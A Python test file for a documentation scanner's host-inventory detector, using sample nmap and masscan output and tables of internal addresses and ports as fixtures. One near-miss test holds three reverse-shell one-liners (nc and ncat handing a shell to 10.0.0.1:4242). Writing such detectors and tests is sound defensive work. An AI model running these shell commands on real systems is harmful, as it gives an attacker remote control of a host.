"""host-inventory (CAC405): tables and code blocks listing internal hosts with ports or
services, and port-scan output naming a host. In process."""

from __future__ import annotations

from mkdocs_threatpub.scanners.detectors.host_inventory import DETECTOR
from tests.detectors._network import LONG, assert_quiet, fenced, scan, seconds

NMAP = """\
Starting Nmap 7.94 ( https://nmap.org )
Nmap scan report for 10.10.4.21
Host is up (0.0010s latency).
PORT     STATE SERVICE
22/tcp   open  ssh
445/tcp  open  microsoft-ds
3389/tcp open  ms-wbt-server
Nmap scan report for fs02.acme.corp (10.10.4.22)
80/tcp   open  http"""


def summary(text: str) -> list[tuple[bool, str]]:
    return [(h.strong, h.what) for h in scan(DETECTOR, text)]


def test_nmap_output_with_hosts_is_strong() -> None:
    hits = scan(DETECTOR, fenced(NMAP))
    assert summary(fenced(NMAP)) == [
        (True, "port-scan output listing 2 hosts and 4 port rows in a code block")
    ]
    assert hits[0].line == 4
    assert_quiet(hits, "10.10.4.21", "fs02", "acme")


def test_nmap_port_lines_without_a_host_are_weak() -> None:
    body = "PORT   STATE SERVICE\n22/tcp open  ssh\n80/tcp open  http\n443/tcp open https"
    assert summary(fenced(body)) == [
        (False, "port-scan output (3 port rows, no specific host) in a code block")
    ]


def test_scan_of_documentation_or_sanctioned_hosts_is_weak() -> None:
    body = NMAP.replace("10.10.4.21", "192.0.2.21").replace(
        "fs02.acme.corp (10.10.4.22)", "scanme.nmap.org (45.33.32.156)"
    )
    # scanme.nmap.org is Nmap's own test host, 192.0.2.0/24 is documentation.
    assert [h.strong for h in scan(DETECTOR, fenced(body))] == [False]


def test_masscan_and_grepable_output() -> None:
    masscan = "\n".join(
        f"Discovered open port {p}/tcp on 10.2.0.{i}" for i, p in ((5, 22), (6, 80), (7, 443))
    )
    assert summary(fenced(masscan)) == [
        (True, "port-scan output listing 3 hosts and 3 port rows in a code block")
    ]
    grepable = "\n".join(
        f"Host: 172.16.9.{i} ()\tPorts: 22/open/tcp//ssh///, 80/open/tcp//http///"
        for i in (1, 2, 3)
    )
    assert [h.strong for h in scan(DETECTOR, fenced(grepable))] == [True]


def test_csv_of_addresses_and_ports_is_strong() -> None:
    body = "ip,port,service\n10.0.0.11,22,ssh\n10.0.0.12,3389,rdp\n10.0.0.13,1433,mssql"
    hits = scan(DETECTOR, fenced(body, "csv"))
    assert summary(fenced(body, "csv")) == [
        (True, "host/port inventory of 3 hosts in a csv code block")
    ]
    assert_quiet(hits, "10.0.0.11", "3389")


def test_host_port_pairs_and_internal_names() -> None:
    body = "fs01.hq.corp:445\nfs02.hq.corp:445\nbackup.hq.corp:873"
    assert summary(fenced(body)) == [(True, "host/port inventory of 3 hosts in a code block")]


def test_table_with_a_port_column_is_strong() -> None:
    page = (
        "| host | address | port | service |\n|---|---|---|---|\n"
        "| erp | 10.5.0.10 | 8080 | http |\n| mail | 10.5.0.20 | 25 | smtp |\n"
        "| vpn | 10.5.0.30 | 443 | https |\n"
    )
    hits = scan(DETECTOR, page)
    assert summary(page) == [(True, "host/port inventory of 3 hosts in a table")]
    assert hits[0].line == 1


def test_table_numbers_without_a_port_column_are_not_ports() -> None:
    page = (
        "| address | incidents |\n|---|---|\n"
        "| 10.5.0.10 | 12 |\n| 10.5.0.20 | 3 |\n| 10.5.0.30 | 44 |\n"
    )
    assert scan(DETECTOR, page) == []


def test_near_misses() -> None:
    # A cheat sheet repeating one placeholder host and port is not an inventory.
    repeated = (
        "nc -e /bin/sh 10.0.0.1 4242\nncat 10.0.0.1 4242 -e /bin/bash\nnc -c bash 10.0.0.1 4242"
    )
    assert scan(DETECTOR, fenced(repeated, "bash")) == []
    # An indicator-of-compromise list names the attacker's public hosts, not the network.
    iocs = "| indicator | port |\n|---|---|\n| 45.77.1.2 | 443 |\n| 45.77.1.3 | 8443 |\n| 45.77.1.4 | 80 |\n"
    assert scan(DETECTOR, iocs) == []
    # Documentation addresses, and only two rows.
    docs = "192.0.2.1,22\n192.0.2.2,22\n198.51.100.3,80\n203.0.113.4,443"
    assert scan(DETECTOR, fenced(docs, "csv")) == []
    two = "10.0.0.11,22\n10.0.0.12,3389"
    assert scan(DETECTOR, fenced(two, "csv")) == []
    # Versions in a table are not hosts.
    versions = "| package | version | port |\n|---|---|---|\n| a | 1.2.3 | 80 |\n| b | 2.0.1 | 81 |\n| c | 3.1 | 82 |\n"
    assert scan(DETECTOR, versions) == []


def test_linear_on_pathological_input() -> None:
    rows = "\n".join(f"10.1.{i // 250 % 250}.{i % 250 + 1},22" for i in range(LONG // 14))
    assert seconds(DETECTOR, rows, lang="csv") < 1.0
    assert seconds(DETECTOR, "22/tcp open ssh\n" * (LONG // 16)) < 1.0
    assert seconds(DETECTOR, "10.0.0.1:22 " * (LONG // 12)) < 1.0
    assert seconds(DETECTOR, " " * 5_000 + "10.0.0.1,22") < 1.0
